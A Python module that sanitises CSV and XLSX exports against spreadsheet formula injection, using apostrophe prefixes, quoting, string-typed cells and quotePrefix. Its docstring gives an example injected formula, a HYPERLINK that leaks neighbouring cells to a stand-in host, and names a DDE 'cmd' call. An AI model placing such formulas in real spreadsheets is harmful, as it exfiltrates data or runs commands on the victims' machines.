"""The one writer of spreadsheet cells: every CSV and XLSX export of otklik goes through here, so
that a resident's text can never become a live formula (CSV injection, OWASP).

A spreadsheet reads a cell starting with ``=``, ``+``, ``-`` or ``@`` (also after a TAB or CR,
and their full-width forms, which Excel with an East Asian input converts) as a formula:
``=HYPERLINK("http://x.example/?leak", "x")`` in a VK comment would become a link that sends the
neighbouring cells away, ``=cmd|…`` a DDE call. Numbers are not text and stay numbers (-2 is a
number, not a formula).

* CSV: a text cell that starts with one of those characters gets a leading apostrophe, the
  neutraliser Excel and LibreOffice show as typed text (OWASP's advice), and every text cell is
  quoted (numbers are not), so that a ``;`` or ``,`` inside a text cannot start a new cell in a
  spreadsheet that splits on another separator.
* XLSX: a text cell is written as a string (``data_type`` ``s``), never as the formula openpyxl
  would make of a ``str`` starting with ``=``; a risky one also gets the ``quotePrefix`` flag
  (Excel's own apostrophe: shown as text, kept as text when the cell is edited). No visible
  apostrophe is added, so a program reading the file gets the text as it was. Characters XML
  cannot hold (C0 controls but TAB, LF, CR) become U+FFFD instead of failing the export.
"""

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from datetime import datetime
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NEUTRALISER = "'"


def is_risky(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as the start of a formula."""
    return text.startswith(FORMULA_STARTS)


def csv_text(text: str) -> str:
    return NEUTRALISER + text if is_risky(text) else text


def csv_bytes(rows: Sequence[Mapping[str, object]]) -> bytes:
    """A header, then a line per row; times in ISO 8601, text neutralised and quoted."""
    buffer = io.StringIO()
    if rows:
        writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC)
        writer.writerow([csv_text(str(name)) for name in rows[0]])
        writer.writerows([_csv_cell(value) for value in row.values()] for row in rows)
    return buffer.getvalue().encode()


def _csv_cell(value: object) -> object:
    if isinstance(value, datetime):
        return value.isoformat()
    if value is None or isinstance(value, int | float):
        return value  # None: an empty cell; bool is an int: True/False unquoted
    return csv_text(str(value))


def new_book() -> Workbook:
    return Workbook()


def append_row(sheet: Any, values: Iterable[object]) -> None:
    """``sheet.append`` with every text written as text (see the module's docstring)."""
    sheet.append([_xlsx_cell(sheet, value) for value in values])


def _xlsx_cell(sheet: Any, value: object) -> object:
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("\ufffd", value))
    cell.data_type = "s"  # openpyxl makes a str starting with "=" a formula
    cell.quotePrefix = is_risky(value)
    return cell


def book_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
